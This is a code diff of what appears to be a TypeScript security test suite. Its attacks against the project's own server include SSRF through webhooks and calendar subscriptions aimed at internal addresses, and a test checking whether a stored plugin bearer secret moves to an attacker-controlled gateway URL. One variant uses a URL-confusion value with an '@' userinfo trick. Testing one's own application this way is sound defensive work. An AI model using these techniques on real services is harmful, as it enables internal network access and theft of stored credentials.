@@ -2,7 +2,7 @@ import { createServer } from "node:http";
 import type { AddressInfo } from "node:net";
 import { setTimeout as pause } from "node:timers/promises";
 import type { Attack } from "./attack.ts";
-import type { AttackWorld, Received } from "./attack-world.ts";
+import { type AttackWorld, control, countStatuses, isOk, type Received } from "./attack-world.ts";
 
 /** Servers of this machine and of cloud providers that only the machine itself may ask, in every spelling known. */
 const inside = (port: number): string[] => [
@@ -85,7 +85,7 @@ function webhooksInside(world: AttackWorld) {
     return {
       answered: counted(answers),
       gains: [
-        ...(world.caught.length > 0 ? [] : ["proves nothing: the attacker's own server got no webhook"]),
+        ...control(world.caught.length > 0, "the attacker's own server got no webhook"),
         ...caught.map((line) => `${line} reached a server inside`),
         ...reasons.filter((reason) => /ECONNREFUSED|4711|timed out/.test(reason)).map((reason) => `told: ${reason}`),
       ],
@@ -133,36 +133,42 @@ function calendarsInside(world: AttackWorld) {
   });
 }
 
-/** A kept secret follows a changed address. */
+/** A kept secret follows a changed address: of plugins and of what is called elsewhere. */
 async function moveSecret(world: AttackWorld) {
   const { token } = world.first;
+  const secret = "Bearer kept-4711";
+  const at = (host: string): string => `http://${host}/send?to={{to}}&text={{text}}`;
+  const [own, other] = [at("127.66.66.66:1"), at(new URL(world.attackerUrl).host)];
   const list = await world.ask("GET", "/extensions?limit=100", { token });
-  const gains: string[] = [];
-  const statuses: number[] = [];
-  for (const { id, name, config } of list.body.data as {
-    id: string;
-    name: string;
-    config: Record<string, unknown>;
-  }[]) {
-    const schema = Object.keys(config ?? {}).filter((key) => /url|host|server/i.test(key));
-    for (const key of schema) {
-      const answer = await world.ask("PUT", `/extensions/${id}`, {
-        token,
-        json: { config: { ...config, [key]: world.attackerUrl } },
-      });
-      statuses.push(answer.status);
-      if (answer.status < 300 && JSON.stringify(answer.body).includes("********")) gains.push(`${name}: ${key}`);
-    }
+  const plugin = (list.body.data as { id: string; name: string }[]).find(({ name }) => name === "sms");
+  const path = `/extensions/${plugin?.id}`;
+  const config = { transport: "http", gatewayUrl: own, gatewayAuthorization: secret };
+  const made = await world.ask("PUT", path, { token, json: { config } });
+  const shown = await world.ask("GET", path, { token });
+  const gains = control(isOk(made), `the plugin was answered ${made.status}: ${made.text.slice(0, 120)}`);
+  if (shown.text.includes(secret)) gains.push("the secret is shown");
+  const answers: Received[] = [];
+  for (const [by, config] of [
+    [token, { gatewayUrl: other }],
+    [token, { ...shown.body.config, gatewayUrl: other }],
+    [token, { ...shown.body.config, gatewayUrl: own.replace("127.66.66.66:1", "127.66.66.66:1@127.66.66.67") }],
+    [world.manager.token, { ...shown.body.config, gatewayUrl: other }],
+  ] as const) {
+    const answer = await world.ask("PUT", path, { token: by, json: { config } });
+    answers.push(answer);
+    const kept = (await world.ask("GET", path, { token })).body.config;
+    if (isOk(answer) && kept?.gatewayAuthorization) gains.push(`the secret moved to ${kept.gatewayUrl}`);
   }
-  const reached = world.caught.filter(({ headers }) => headers.authorization !== undefined);
-  return {
-    answered: [...new Set(statuses)].join(", ") || "no plugin keeps one yet",
-    gains: [...gains, ...reached.map(({ line }) => `${line} came with credentials`)],
-  };
+  const given = await world.ask("PUT", path, {
+    token,
+    json: { config: { ...shown.body.config, gatewayUrl: other, gatewayAuthorization: secret } },
+  });
+  gains.push(...control(isOk(given), `with the secret given again it was answered ${given.status}`));
+  return { answered: `${countStatuses(answers)} (with the secret: ${given.status})`, gains };
 }
 
 export const OUTBOUND_ATTACKS: readonly Attack[] = [
   { by: "administrator", what: "adds webhooks that lead inside (SSRF)", run: webhooksInside },
   { by: "manager of North", what: "subscribes to calendars that lie inside (SSRF)", run: calendarsInside },
-  { by: "manager of North", what: "moves a plugin with a kept secret to another server", run: moveSecret },
+  { by: "administrator", what: "moves a plugin with a kept secret to another server", run: moveSecret },
 ];
